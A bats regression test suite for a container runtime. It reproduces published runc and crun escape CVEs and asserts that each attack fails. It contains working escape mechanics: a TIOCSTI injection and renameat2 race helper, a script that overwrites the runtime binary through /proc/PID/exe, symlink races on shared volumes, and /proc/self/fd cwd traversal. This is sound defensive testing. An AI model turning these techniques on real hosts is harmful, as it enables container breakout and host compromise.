#!/usr/bin/env bats
# Escape regressions: one test per published escape of runc, crun and bubblewrap. Each test
# reproduces the attack's mechanism against the runtime (a malicious image, a malicious
# volume layout, a racing attacker in a shared volume, a process inside the container) and
# asserts that the host is untouched and the attack fails. docs/security.md has the threat
# model and the defence behind each entry.
#
# Each comment says how the test was checked to fail: by a build of rt with that defence
# taken out (or, for the defences that were missing when the test was written, by the rt
# before the fix), or by a positive control inside the test that shows the mechanism works.
#
# Canaries and volumes live under $TEST_DIR; racers run for a bounded time (RACE_SECONDS).

load helpers

RACE_SECONDS="${RACE_SECONDS:-2}"

# A path of the default maskedPaths that this kernel has (/proc/kcore needs CONFIG_PROC_KCORE).
for MASKED in /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug; do
    [[ -e "$MASKED" ]] && break
done

# A static attack helper (TIOCSTI, renameat2 RENAME_EXCHANGE), built once per file.
setup_file() {
    export RTSEC="$BATS_FILE_TMPDIR/rtsec"
    command -v gcc >/dev/null || return 0
    cat >"$BATS_FILE_TMPDIR/rtsec.c" <<'EOF'
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc == 3 && !strcmp(argv[1], "tiocsti")) {
        for (const char *p = argv[2]; *p; p++)
            if (ioctl(0, TIOCSTI, p) < 0) {
                printf("tiocsti: %s\n", strerror(errno));
                return 1;
            }
        printf("tiocsti: injected\n");
        return 0;
    }
    if (argc == 5 && !strcmp(argv[1], "exchange")) {
        time_t end = time(NULL) + atoi(argv[4]);
        long n = 0;
        while (time(NULL) < end)
            for (int i = 0; i < 100; i++, n++)
                renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE);
        printf("exchanged %ld times\n", n);
        return 0;
    }
    fprintf(stderr, "usage: rtsec tiocsti TEXT | exchange A B SECONDS\n");
    return 2;
}
EOF
    gcc -O2 -static -o "$RTSEC" "$BATS_FILE_TMPDIR/rtsec.c" || rm -f "$RTSEC"
}

setup() {
    common_setup
    # the attacks write their findings into the rootfs
    cfg '.root.readonly = false'
}

need_rtsec() {
    [[ -x "$RTSEC" ]] || skip "needs gcc with a static libc for the attack helper"
}

ROOTFS() { echo "$BUNDLE/rootfs"; }

# no_dev_tmpfs: the image's own /dev is used (no tmpfs mounted on /dev).
no_dev_tmpfs() {
    cfg '.mounts |= map(select(.destination != "/dev"))'
}

# userns_caps CAP...: a user namespace (container 0 = host 100000, owning the rootfs) and
# these capabilities in every set, as a "privileged" container in a user namespace has them.
userns_caps() {
    local caps
    caps="$(jq -nc '$ARGS.positional' --args -- "$@")"
    cfg_args --argjson c "$caps" '.linux.namespaces += [{"type":"user"}]
        | .linux.uidMappings = [{"containerID":0,"hostID":100000,"size":65536}]
        | .linux.gidMappings = [{"containerID":0,"hostID":100000,"size":65536}]
        | .process.capabilities = {"bounding":$c,"effective":$c,"permitted":$c}'
    chown -R 100000:100000 "$BUNDLE/rootfs"
    searchable_for_others "$BUNDLE"
}

set_caps() {
    local caps
    caps="$(jq -nc '$ARGS.positional' --args -- "$@")"
    cfg_args --argjson c "$caps" '.process.capabilities = {"bounding":$c,"effective":$c,"permitted":$c}'
}

# cfg with jq arguments: cfg_args JQ_ARGS... FILTER
cfg_args() {
    local f="$BUNDLE/config.json" filter="${*: -1}"
    jq "${@:1:$#-1}" "$filter" "$f" >"$f.tmp" && mv "$f.tmp" "$f"
}

# race_start A B: a host process swaps the paths A and B (renameat2 RENAME_EXCHANGE) in a loop
# for RACE_SECONDS, as a second container sharing the volume would.
race_start() {
    "$RTSEC" exchange "$1" "$2" "$RACE_SECONDS" >"$TEST_DIR/racer.out" 2>&1 &
    RACER=$!
    BG_PIDS+=("$RACER")
}

# racing: the racer still runs. The loops run while it does, and at least once (a busy machine
# may give a loop no more than that); they assert the property on every run and print how many
# there were. After the race (an even number of swaps) the layout is as it was set up, and
# the tests that need a container to have started check one run on it.
racing() { kill -0 "$RACER" 2>/dev/null && [[ "$(awk '{print $3}' "/proc/$RACER/stat" 2>/dev/null)" != Z ]]; }

# A listing of a host directory (names, types, sizes, contents) to compare before and after.
snapshot() {
    (cd "$1" && find . -printf '%p %y %s %U %m %l\n' | sort && find . -type f -exec md5sum {} + | sort)
}

# ---------------------------------------------------------------------------------------------

# runc CVE-2016-9962: the runtime process that joins a running container (exec) could be
# ptraced, or its /proc/PID/fd opened, by container processes before it exec'd, and it held
# host fds. rt: the joining helper is made non-dumpable before setns and its child stays so
# until execve; the init waiting in `created` is non-dumpable too. The attacker here is root
# of a user-namespaced container with CAP_SYS_PTRACE (there dumpability is the only barrier);
# the exec'd process is held before execve by a FIFO in place of /etc/passwd (rt reads it for
# HOME), while the attacker lists its fds and reads its exe. Checked: a build without the
# prctl in exec.c's helper failed (the attacker read /proc/PID/exe of the joining process);
# the created-init half failed on rt before the init was made non-dumpable (its fds were
# the host --root and state dirs, listable from the container, its exe the host binary).
# bats test_tags=vm
@test "CVE-2016-9962: the process joining the container is not reachable from it (exec, created init)" {
    local r
    r="$(ROOTFS)"
    rm "$r/etc/passwd"
    mkfifo -m 0666 "$r/etc/passwd"
    mkdir -m 1777 "$r/out"
    userns_caps CAP_SYS_PTRACE CAP_SYS_ADMIN CAP_DAC_OVERRIDE CAP_KILL CAP_SETUID CAP_SETGID
    cfg_args --arg pj "$TEST_DIR/process.json" '.process.env += ["HOME=/root", "PJ=" + $pj]'
    # The watcher has no deadline of its own (the test bounds the wait) and uses no /dev/null:
    # that is the host's device, and where its mode lacks o+w a `2>/dev/null` here fails
    # before the command runs, so nothing would ever be found.
    # shellcheck disable=SC2016
    set_args sh -c '
        exec 2>>/out/err
        p=
        until [ -n "$p" ]; do
            for d in /proc/[0-9]*; do
                [ "${d#/proc/}" = 1 ] && continue
                case "$(tr "\0" " " <$d/cmdline)" in *"--process $PJ"*) p=${d#/proc/}; break ;; esac
            done
            [ -n "$p" ] || usleep 20000
        done
        d=/proc/$p
        echo "found $p" >>/out/log
        ls $d/fd/ >>/out/log 2>&1 && echo FD-LISTED >>/out/log
        readlink $d/exe >>/out/log 2>&1 && echo EXE-READ >>/out/log
        for f in $d/fd/*; do
            [ -d "$f" ] && ls "$f"/ >/out/ls 2>&1 && echo "HOST-DIR-OPENED $(readlink $f)" >>/out/log
        done
        echo "root:x:0:0:root:/root:/bin/sh" >/etc/passwd
        echo done >>/out/log
        exec sleep 100'
    rtc run -d -b "$BUNDLE" "$ID"
    assert_success
    # no HOME: the exec'd process reads /etc/passwd (the FIFO) before it execs
    jq '.process | {args:["true"], cwd:"/", env:["PATH=/bin"], capabilities:.capabilities}' \
        "$BUNDLE/config.json" >"$TEST_DIR/process.json"
    # in the background: it waits on the FIFO until the watcher is done, however long that takes
    "$RT" --root "$ROOT" exec --process "$TEST_DIR/process.json" "$ID" </dev/null \
        >"$TEST_DIR/exec.out" 2>&1 &
    BG_PID=$!
    BG_PIDS+=("$BG_PID")
    wait_file_contains "$r/out/log" "done" 60 ||
        fail "the watcher did not find the joining process; its errors: $(cat "$r/out/err")"
    wait_bg 30
    [[ "$status" -eq 0 ]] || fail "exec failed ($status): $(cat "$TEST_DIR/exec.out")"
    local log
    log="$(cat "$r/out/log")"
    echo "$log"
    assert_contains "$log" "found"
    [[ "$log" != *FD-LISTED* && "$log" != *EXE-READ* && "$log" != *HOST-DIR-OPENED* ]] ||
        fail "the container reached the joining process: $log"

    # The init blocked on exec.fifo (status created) is the runtime's image with its fds.
    local id2
    id2="$(new_id)"
    make_bundle "$TEST_DIR/b2" sleep 100
    rtc create -b "$TEST_DIR/b2" "$id2"
    assert_success
    # (the fd numbers may be listed: the directory is root's; following them needs ptrace rights)
    rtc exec "$id2" sh -c 'readlink /proc/1/exe && echo EXE-READ; for f in /proc/1/fd/*; do
            readlink "$f" && echo "FD-READ $f"; [ -d "$f" ] && ls "$f"/ && echo "HOST-DIR-OPENED $f"
        done; ls /proc/1/cwd/ && echo CWD-OPENED; true'
    assert_success
    [[ "$output" != *EXE-READ* && "$output" != *FD-READ* && "$output" != *HOST-DIR-OPENED* &&
        "$output" != *CWD-OPENED* && "$output" != *"$ROOT"* ]] || fail "the created init is reachable: $output"
}

# runc CVE-2019-5736: a container makes the runtime's own image execve /proc/self/exe (here
# as the exec'd program; a `#!/proc/self/exe` script works the same), so the runtime binary
# runs inside the container; a container process opens /proc/PID/exe and, once the runtime
# exits, writes through that fd to overwrite the host binary. The image carries the dynamic
# loader and libraries, and its --log file is a FIFO so the runtime blocks opening it. The
# runtime under attack is a copy of $RT. rt's defence: create/run/exec re-execute from the
# binary seen through a private read-only bind mount (rootless: a sealed memfd copy), so
# /proc/PID/exe cannot be written. Checked: against the rt before that defence the copy was
# overwritten with "PWNED" (test failed).
# bats test_tags=vm
@test "CVE-2019-5736: the runtime binary cannot be overwritten through /proc/PID/exe" {
    local r lib copy="$TEST_DIR/rt-copy"
    r="$(ROOTFS)"
    cp "$RT" "$copy"
    for lib in $(ldd "$RT" | grep -o '/[^ ]*'); do
        mkdir -p "$r$(dirname "$lib")"
        cp -L "$lib" "$r$lib"
    done
    mkdir -p "$r/r"
    mkfifo -m 0666 "$r/r/log"
    mkdir -m 1777 "$r/out"
    # shellcheck disable=SC2016
    set_args sh -c '
        end=$(($(date +%s) + 10))
        while [ $(date +%s) -lt $end ]; do
            for d in /proc/[0-9]*; do
                [ "${d#/proc/}" = 1 ] && continue
                case "$(tr "\0" " " <$d/cmdline 2>/dev/null)" in "/proc/self/exe --log /r/log "*) ;; *) continue ;; esac
                echo "found $(readlink $d/exe)" >>/out/log
                if (exec 3<$d/exe) 2>/dev/null; then
                    exec 3<$d/exe
                    echo OPENED >>/out/log
                fi
                cat /r/log >/dev/null
                i=0
                while [ $i -lt 30 ]; do
                    if (echo PWNED >/proc/self/fd/3) 2>>/out/log; then echo OVERWRITTEN >>/out/log; break; fi
                    usleep 100000; i=$((i + 1))
                done
                echo done >>/out/log
                exec sleep 100
            done
            usleep 20000
        done
        echo NOT-FOUND >>/out/log; echo done >>/out/log; exec sleep 100'
    rtc run -d -b "$BUNDLE" "$ID"
    assert_success
    # the copy execs inside the container, then exits: nothing on the host runs it any more
    timeout -k 5 "$RT_CMD_TIMEOUT" "$copy" --root "$ROOT" exec -d "$ID" /proc/self/exe --log /r/log state x \
        </dev/null >"$TEST_DIR/exec.out" 2>&1 || true
    wait_file_contains "$r/out/log" done 8 || {
        cat "$TEST_DIR/exec.out"
        return 1
    }
    cat "$r/out/log"
    assert_contains "$(cat "$r/out/log")" found
    assert_contains "$(cat "$r/out/log")" OPENED
    cmp "$RT" "$copy" || fail "the host runtime binary was overwritten: $(head -c 20 "$copy")"
    [[ "$(cat "$r/out/log")" != *OVERWRITTEN* ]] || fail "write through /proc/PID/exe succeeded"
}

# runc CVE-2019-16884: a volume mounted on /proc (a directory with fake self/attr/* and
# self/oom_score_adj files) makes the runtime's writes to /proc/self/... (the LSM label, the
# oom score) land in the fake files, so the process runs unconfined. rt refuses a mount on
# /proc that is not procfs (as runc) and writes /proc/self files through the host's procfs
# before pivot_root. Checked: the rt before the fix wrote 321 into the fake oom_score_adj.
@test "CVE-2019-16884: a fake /proc does not receive the runtime's /proc/self writes" {
    local fake="$TEST_DIR/fakeproc"
    mkdir -p "$fake/self/attr/apparmor" "$fake/1"
    : >"$fake/self/oom_score_adj"
    : >"$fake/self/attr/exec"
    : >"$fake/self/attr/apparmor/exec"
    cfg_args --arg f "$fake" '.process.oomScoreAdj = 321
        | .mounts += [{"destination":"/proc","type":"bind","source":$f,"options":["rbind"]}]'
    set_args sleep 100
    rtc run -d -b "$BUNDLE" "$ID"
    if ((status == 0)); then
        local pid
        pid="$(state_field "$ID" .pid)"
        assert_equal "$(cat "/proc/$pid/oom_score_adj")" 321
        rtc exec "$ID" stat -f -c %T /proc
        assert_equal "$stdout" proc
    else
        assert_error "/proc"
    fi
    assert_equal "$(cat "$fake/self/oom_score_adj" "$fake/self/attr/exec" "$fake/self/attr/apparmor/exec")" ""
}

# runc CVE-2019-19921: a volume holds an entry that another container swaps between a
# directory and a symlink to /proc; a later volume whose destination goes through it then
# lands on /proc and covers procfs with a fake one (masks and LSM writes then act on the
# fake). rt resolves every destination by fd inside the rootfs and refuses a mount whose
# resolved destination is /proc (unless it is procfs) or inside it. The racer swaps for
# RACE_SECONDS while containers start; every container that starts must see procfs on /proc
# with its masked paths masked. Checked: on the rt before the fix the static case showed the
# fake on /proc (test failed); a first version of the fix that checked the destination by
# path and then resolved it again to mount failed the racing half (the race won on run 3),
# which is why the check is made on the very fd that is mounted on.
@test "CVE-2019-19921: a symlinked volume path cannot mount over /proc (static and racing)" {
    need_rtsec
    local vol="$TEST_DIR/vol" fake="$TEST_DIR/fakeproc"
    mkdir -p "$vol/evil.dir" "$fake"
    echo fake >"$fake/${MASKED#/proc/}"
    ln -s /proc "$vol/evil"
    cfg_args --arg v "$vol" --arg f "$fake" '.mounts += [
        {"destination":"/vol","type":"bind","source":$v,"options":["rbind"]},
        {"destination":"/vol/evil","type":"bind","source":$f,"options":["rbind"]}]'
    set_args sh -c "stat -f -c %T /proc; stat -c %t:%T $MASKED"
    local id
    id="$(new_id)"
    rtc run -b "$BUNDLE" "$id"
    if ((status == 0)); then
        assert_equal "${lines[0]}" proc
        assert_equal "${lines[-1]}" 1:3
    else
        assert_error "proc"
    fi
    rm "$vol/evil"
    mv "$vol/evil.dir" "$vol/evil"
    ln -s /proc "$vol/evil.link"
    race_start "$vol/evil" "$vol/evil.link"
    local runs=0 ok=0
    while racing || ((runs == 0)); do
        id="$(new_id)"
        rtc run -b "$BUNDLE" "$id"
        runs=$((runs + 1))
        if ((status == 0)); then
            ok=$((ok + 1))
            [[ "${lines[0]}" == proc && "${lines[-1]}" == 1:3 ]] ||
                fail "run $runs: /proc in the container is not the masked procfs: $output"
        fi
    done
    echo "runs: $runs, started: $ok; $(cat "$TEST_DIR/racer.out")"
    [[ "$(cat "$fake/${MASKED#/proc/}")" == fake ]]
}

# runc CVE-2021-30465: a mount destination goes through a volume entry that another
# container swaps (RENAME_EXCHANGE) between a directory and a symlink to a host path; a
# runtime that resolves the path, then mounts by the path string, can mount outside the
# rootfs (where a later mount's source then picks up the attacker's host path). rt resolves
# with openat2(RESOLVE_IN_ROOT) and mounts on the O_PATH fd: the symlink is followed inside
# the rootfs every time. Every container started during the race must have the payload's
# bind mount in its mount table, and the host path must stay empty. Checked: a build whose
# openat2 lacked RESOLVE_IN_ROOT (the symlink is then followed on the host, as a runtime
# resolving path strings does) failed within the race (the mount point appeared on the host).
# bats test_tags=vm
@test "CVE-2021-30465: racing symlink exchange cannot move a bind mount out of the rootfs" {
    need_rtsec
    local vol="$TEST_DIR/vol" out="$TEST_DIR/outside" payload="$TEST_DIR/payload"
    mkdir -p "$vol/d" "$out" "$payload"
    echo marker >"$payload/marker"
    ln -s "$out" "$vol/d.link"
    cfg_args --arg v "$vol" --arg p "$payload" '.mounts += [
        {"destination":"/vol","type":"bind","source":$v,"options":["rbind"]},
        {"destination":"/vol/d/mnt","type":"bind","source":$p,"options":["rbind"]}]'
    # the bind of the payload is in the container's mount table (mounts outside the rootfs
    # vanish with pivot_root): its root field is the payload's path inside its filesystem,
    # which ends with the path below the first component (/tmp may be a filesystem of its own)
    set_args sh -c "grep -c ' [^ ]*/${payload#/*/} ' /proc/self/mountinfo"
    race_start "$vol/d" "$vol/d.link"
    local runs=0 ok=0 id
    while racing || ((runs == 0)); do
        id="$(new_id)"
        rtc run -b "$BUNDLE" "$id"
        runs=$((runs + 1))
        if ((status == 0)); then
            ok=$((ok + 1))
            assert_equal "$stdout" 1
        fi
    done
    echo "runs: $runs, started: $ok; $(cat "$TEST_DIR/racer.out")"
    # the control: on the layout as set up, the container starts and has the bind mount
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_equal "$stdout" 1
    assert_equal "$(ls -A "$out")" ""
    assert_equal "$(ls -A "$payload")" marker
}

# runc CVE-2024-45310: the same shared-volume race against the runtime's creation of missing
# mount destinations (MkdirAll, then a file for a file bind): a runtime that follows the
# swapped symlink on the host creates empty directories and files anywhere on the host.
# rt creates each component with mkdirat/openat(O_EXCL|O_NOFOLLOW) on a directory fd that was
# resolved inside the rootfs. The host directory the symlink names must stay empty. Checked:
# a build whose openat2 lacked RESOLVE_IN_ROOT failed within the race (files on the host).
@test "CVE-2024-45310: racing symlink cannot make the runtime create files on the host" {
    need_rtsec
    local vol="$TEST_DIR/vol" out="$TEST_DIR/outside" payload="$TEST_DIR/payload"
    mkdir -p "$vol/d" "$out" "$payload/dir"
    echo file >"$payload/file"
    ln -s "$out" "$vol/d.link"
    cfg_args --arg v "$vol" --arg p "$payload" '.mounts += [
        {"destination":"/vol","type":"bind","source":$v,"options":["rbind"]},
        {"destination":"/vol/d/a/b/c","type":"bind","source":($p + "/dir"),"options":["rbind"]},
        {"destination":"/vol/d/f/file","type":"bind","source":($p + "/file"),"options":["bind"]}]'
    set_args true
    race_start "$vol/d" "$vol/d.link"
    local runs=0 id
    while racing || ((runs == 0)); do
        id="$(new_id)"
        rtc run -b "$BUNDLE" "$id"
        runs=$((runs + 1))
        [[ -z "$(ls -A "$out")" ]] || fail "run $runs created on the host: $(find "$out")"
    done
    echo "runs: $runs; $(cat "$TEST_DIR/racer.out")"
    assert_equal "$(ls -A "$out")" ""
}

# Not a published CVE: the step after a mount, in the same shared-volume race. A runtime that
# mounts on the destination's fd and then reopens the destination by path to finish the mount
# (propagation, recursive options, tmpcopyup, the remount of a bind's flags) gets whatever the
# volume put at that path meanwhile: the finishing step lands on another directory or mount.
# rt finishes on an fd of the new mount itself (fsmount and open_tree make the mount detached,
# move_mount attaches it on the destination's fd). Here another container swaps the volume's
# directories a and b while /vol/a gets a tmpfs with tmpcopyup: what a held is copied into
# the tmpfs, never into the volume, so each directory keeps exactly its own marker. Checked:
# the rt before the change (mount(2), then the destination reopened by path) failed within
# the race (a volume directory held both markers).
@test "racing swap after a mount cannot redirect what rt does to the new mount" {
    need_rtsec
    local vol="$TEST_DIR/vol"
    mkdir -p "$vol/a" "$vol/b"
    echo a >"$vol/a/marker-a"
    echo b >"$vol/b/marker-b"
    cfg_args --arg v "$vol" '.mounts += [
        {"destination":"/vol","type":"bind","source":$v,"options":["rbind"]},
        {"destination":"/vol/a","type":"tmpfs","source":"tmpfs","options":["tmpcopyup"]}]'
    set_args true
    race_start "$vol/a" "$vol/b"
    local runs=0 ok=0 d
    while racing || ((runs == 0)); do
        rtc run -b "$BUNDLE" "$(new_id)"
        runs=$((runs + 1))
        ((status != 0)) || ok=$((ok + 1))
        for d in a b; do
            [[ "$(ls -A "$vol/$d" | wc -l)" == 1 ]] ||
                fail "run $runs: the volume's $d holds $(ls -A "$vol/$d" | tr '\n' ' ')"
        done
    done
    echo "runs: $runs, started: $ok; $(cat "$TEST_DIR/racer.out")"
    # the control: on the layout as set up, the container starts and the markers stay put
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_equal "$(ls -A "$vol/a")" marker-a
    assert_equal "$(ls -A "$vol/b")" marker-b
}

# runc CVE-2022-29162: `exec` gave the process a non-empty inheritable set, so a program with
# inheritable file capabilities (setcap cap_dac_override+ei) run by a non-root user gained
# them. rt sets the inheritable set only from process.capabilities.inheritable (empty when
# not asked). Positive control: when the config does ask for CAP_DAC_OVERRIDE in the
# inheritable set, the same program reads the root-only file, which is what a leak would
# look like. Checked: a build that put the permitted set into the inheritable one failed.
@test "CVE-2022-29162: no inheritable capabilities unless asked (file capabilities do not apply)" {
    command -v setcap >/dev/null || skip "setcap not installed"
    local r
    r="$(ROOTFS)"
    mkdir -p "$r/capbin"
    cp /bin/busybox "$r/capbin/cat"
    setcap cap_dac_override+ei "$r/capbin/cat"
    echo secret >"$r/secret"
    chmod 0600 "$r/secret"
    set_caps CAP_DAC_OVERRIDE CAP_KILL
    # no_new_privs would clamp file capabilities anyway: the CVE is about containers without it
    cfg '.process.user = {"uid":1000,"gid":1000} | .process.noNewPrivileges = false'
    set_args sh -c 'grep CapInh /proc/self/status; /capbin/cat /secret 2>&1; true'
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_contains "$stdout" "CapInh:	0000000000000000"
    [[ "$stdout" != *secret* || "$stdout" == *"can't open"* ]] || fail "file capability gained: $stdout"
    # control: asked for, the inheritable capability does make the file capability work
    cfg '.process.capabilities.inheritable = ["CAP_DAC_OVERRIDE"]'
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_equal "${lines[1]}" secret
}

# crun CVE-2022-27650: `crun exec` set the inheritable set to the process's capabilities.
# Same mechanism as above, through exec: --cap, --process with capabilities, and a --process
# without any (which must get the container's capabilities, never the runtime's full set).
# Checked: the last case failed on rt before the fix (CapEff was the host's full set); a
# build that put the permitted set into the inheritable one failed the first cases.
@test "crun CVE-2022-27650: exec gives no inheritable capabilities; --process without caps gets the container's" {
    command -v setcap >/dev/null || skip "setcap not installed"
    local r
    r="$(ROOTFS)"
    mkdir -p "$r/capbin"
    cp /bin/busybox "$r/capbin/cat"
    setcap cap_dac_override+ei "$r/capbin/cat"
    echo secret >"$r/secret"
    chmod 0600 "$r/secret"
    cfg '.process.noNewPrivileges = false'
    set_args sleep 100
    rtc run -d -b "$BUNDLE" "$ID"
    assert_success
    rtc exec -u 1000:1000 --cap CAP_DAC_OVERRIDE "$ID" sh -c 'grep CapInh /proc/self/status; /capbin/cat /secret 2>&1; true'
    assert_success
    assert_contains "$stdout" "CapInh:	0000000000000000"
    assert_contains "$stdout" "can't open"
    jq -n '{args:["sh","-c","grep CapInh /proc/self/status; /capbin/cat /secret 2>&1; true"], cwd:"/",
        env:["PATH=/bin"], user:{uid:1000,gid:1000},
        capabilities:{bounding:["CAP_DAC_OVERRIDE"],effective:["CAP_DAC_OVERRIDE"],permitted:["CAP_DAC_OVERRIDE"]}}' \
        >"$TEST_DIR/p.json"
    rtc exec --process "$TEST_DIR/p.json" "$ID"
    assert_success
    assert_contains "$stdout" "CapInh:	0000000000000000"
    assert_contains "$stdout" "can't open"
    jq -n '{args:["grep","-E","^Cap(Inh|Prm|Eff|Bnd)","/proc/self/status"], cwd:"/", env:["PATH=/bin"]}' \
        >"$TEST_DIR/p2.json"
    rtc exec --process "$TEST_DIR/p2.json" "$ID"
    assert_success
    local want
    want="$(cap_mask CAP_AUDIT_WRITE CAP_KILL CAP_NET_BIND_SERVICE)"
    assert_contains "$stdout" "CapInh:	0000000000000000"
    assert_contains "$stdout" "CapEff:	$want"
    assert_contains "$stdout" "CapBnd:	$want"
}

# runc CVE-2023-25809: /sys bound from the host with `rbind,ro` (what a runtime does for
# sysfs without a network namespace of its own, and what `runc spec --rootless` writes) is
# read-only only at its top: /sys/fs/cgroup and the hierarchies below it stay writable, so
# the container writes the host's cgroups. rt makes such a /sys read-only recursively. The
# container tries to create a cgroup in the first host hierarchy. Checked: on the rt before
# the fix the directory appeared on the host (test failed).
# bats test_tags=vm
@test "CVE-2023-25809: /sys bound from the host keeps /sys/fs/cgroup read-only" {
    local hier name="rt-sec-$TEST_TOKEN-$BATS_TEST_NUMBER"
    hier="$(findmnt -n -t cgroup,cgroup2 -o TARGET | head -1)"
    [[ -n "$hier" ]] || skip "no cgroup hierarchy mounted"
    cfg '.linux.namespaces |= map(select(.type != "network")) | .mounts |= map(select(.type != "cgroup"))'
    set_caps CAP_DAC_OVERRIDE CAP_KILL
    set_args sh -c "mkdir '$hier/$name' 2>&1; echo 1 >'$hier/cgroup.procs' 2>&1; true"
    local id
    id="$(new_id)"
    rtc run -b "$BUNDLE" "$id"
    rmdir "$hier/$name" 2>/dev/null && fail "the container created the host cgroup $hier/$name"
    assert_success
    assert_contains "$stdout" "Read-only file system"
    # the form runc spec --rootless writes
    cfg '.mounts |= map(if .destination == "/sys" then {"destination":"/sys","type":"none","source":"/sys","options":["rbind","nosuid","noexec","nodev","ro"]} else . end)'
    rtc run -b "$BUNDLE" "$(new_id)"
    rmdir "$hier/$name" 2>/dev/null && fail "the container created the host cgroup $hier/$name (rbind,ro)"
    assert_success
    assert_contains "$stdout" "Read-only file system"
}

# runc CVE-2023-27561 / CVE-2023-28642: the image's /proc is a symlink into a volume that is
# mounted after procfs, so /proc in the container ends up being the volume and the runtime's
# /proc/self writes (LSM label, oom score) go to files on the host. rt writes them through
# the host's procfs before pivot_root and refuses procfs/sysfs on a symlinked destination.
# Checked: on the rt before the fix the host file received 321 (test failed).
@test "CVE-2023-27561/CVE-2023-28642: a /proc symlink into a volume does not redirect /proc writes" {
    local r vol="$TEST_DIR/vol"
    r="$(ROOTFS)"
    mkdir -p "$vol/proc/self/attr" "$r/vol"
    : >"$vol/proc/self/oom_score_adj"
    : >"$vol/proc/self/attr/exec"
    rmdir "$r/proc" 2>/dev/null || true
    ln -s /vol/proc "$r/proc"
    cfg_args --arg v "$vol" '.process.oomScoreAdj = 321
        | .mounts += [{"destination":"/vol","type":"bind","source":$v,"options":["rbind"]}]'
    set_args sleep 100
    rtc run -d -b "$BUNDLE" "$ID"
    if ((status == 0)); then
        local pid
        pid="$(state_field "$ID" .pid)"
        assert_equal "$(cat "/proc/$pid/oom_score_adj")" 321
    else
        assert_error "proc"
    fi
    assert_equal "$(cat "$vol/proc/self/oom_score_adj" "$vol/proc/self/attr/exec")" ""
}

# runc CVE-2024-21626: process.cwd (or exec --cwd) "/proc/self/fd/N" where N is a host
# directory fd the runtime still holds: the process starts with a cwd outside the rootfs
# and reaches the host through "..". rt resolves the cwd inside the root without magic links
# (openat2 RESOLVE_IN_ROOT | RESOLVE_NO_MAGICLINKS) and fchdirs to it. Checked: on the rt
# before the fix fd 4 (run) and fds 3-4 (exec) were the host --root and state dirs and the
# container read the host file (test failed).
# bats test_tags=vm
@test "CVE-2024-21626: a cwd of /proc/self/fd/N never leaves the container" {
    echo host-secret >"$TEST_DIR/secret"
    local up n
    up="$(printf '../%.0s' {1..30})"
    for n in 3 4 5 6 7 8 9 10; do
        cfg_args --arg c "/proc/self/fd/$n" '.process.cwd = $c'
        set_args sh -c "cat '$up$TEST_DIR/secret' 2>/dev/null; ls -A /proc/self/fd | tr '\n' ' '"
        rtc run -b "$BUNDLE" "$(new_id)"
        [[ "$output" != *host-secret* ]] || fail "run, cwd fd $n: host file read: $output"
    done
    cfg '.process.cwd = "/"'
    set_args sleep 100
    rtc run -d -b "$BUNDLE" "$ID"
    assert_success
    for n in 3 4 5 6 7 8 9 10 11 12; do
        rtc exec --cwd "/proc/self/fd/$n" "$ID" sh -c "cat '$up$TEST_DIR/secret' 2>/dev/null"
        [[ "$output" != *host-secret* ]] || fail "exec, cwd fd $n: host file read: $output"
    done
    # and no fd of the runtime reaches the process
    rtc exec "$ID" sh -c 'ls -A /proc/self/fd | tr "\n" " "'
    assert_equal "$stdout" "0 1 2 3 "
}

# runc CVE-2025-31133: the masking of maskedPaths bind-mounts "/dev/null" of the container
# over each path; an image (or a racing container on a shared /dev) makes /dev/null a symlink
# to a procfs file such as /proc/sys/kernel/core_pattern, so that file is mounted writable on
# a masked path, or deletes /dev/null so masking is skipped. rt masks with the host's
# /dev/null, opened before pivot_root, and recreates the container's /dev/null as a device.
# The static case checks that; a build masking with the container's /dev/null failed the
# racing case (a masked path showed 0:0: not masked).
@test "CVE-2025-31133: maskedPaths hold even when the image's /dev/null is a symlink or missing" {
    local r core
    r="$(ROOTFS)"
    core="$(cat /proc/sys/kernel/core_pattern)"
    no_dev_tmpfs
    mkdir -p "$r/dev"
    ln -s /proc/sys/kernel/core_pattern "$r/dev/null"
    local check='for p in /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug; do [ -e $p ] && echo "$p $(stat -c %t:%T $p)"; done; echo "null $(stat -c %F-%t:%T /dev/null)"'
    set_args sh -c "$check"
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_contains "$stdout" "$MASKED 1:3"
    assert_contains "$stdout" "null character special file-1:3"
    [[ "$stdout" != *"/proc/"*" 0:0"* ]] || fail "a masked path is not masked: $stdout"
    rm -f "$r/dev/null"
    rtc run -b "$BUNDLE" "$(new_id)"
    assert_success
    assert_contains "$stdout" "$MASKED 1:3"
    assert_equal "$(cat /proc/sys/kernel/core_pattern)" "$core"
}

# The racing half of the entry above; its comment says how it was checked to fail.
@test "CVE-2025-31133 (racing): a shared /dev whose null is swapped with a symlink" {
    need_rtsec
    local dev="$TEST_DIR/devvol" core
    core="$(cat /proc/sys/kernel/core_pattern)"
    mkdir -p "$dev"
    mknod -m 666 "$dev/null" c 1 3
    ln -s /proc/sys/kernel/core_pattern "$dev/null.link"
    cfg_args --arg d "$dev" '.mounts |= map(if .destination == "/dev" then {"destination":"/dev","type":"bind","source":$d,"options":["rbind"]} else . end)'
    set_args sh -c "stat -c %t:%T $MASKED"
    race_start "$dev/null" "$dev/null.link"
    local runs=0 id
    while racing || ((runs == 0)); do
        id="$(new_id)"
        rtc run -b "$BUNDLE" "$id"
        runs=$((runs + 1))
        assert_success
        assert_equal "$stdout" 1:3
    done
    echo "runs: $runs; $(cat "$TEST_DIR/racer.out")"
    assert_equal "$(cat /proc/sys/kernel/core_pattern)" "$core"
}

# run_in_script CMD: run CMD under script(1) (a pty as the controlling terminal, stdin kept
# open for a moment); output in $stdout with the CRs removed.
run_in_script() {
    command -v script >/dev/null || skip "script(1) not installed"
    status=0
    stdout="$(sleep 2 | timeout -k 5 30 script -qec "$1" /dev/null | tr -d '\r')" || status=$?
}

# runc CVE-2025-52565: the pty is bind-mounted on /dev/console before maskedPaths and
# readonlyPaths; the image makes /dev/console a symlink to a procfs file (or races
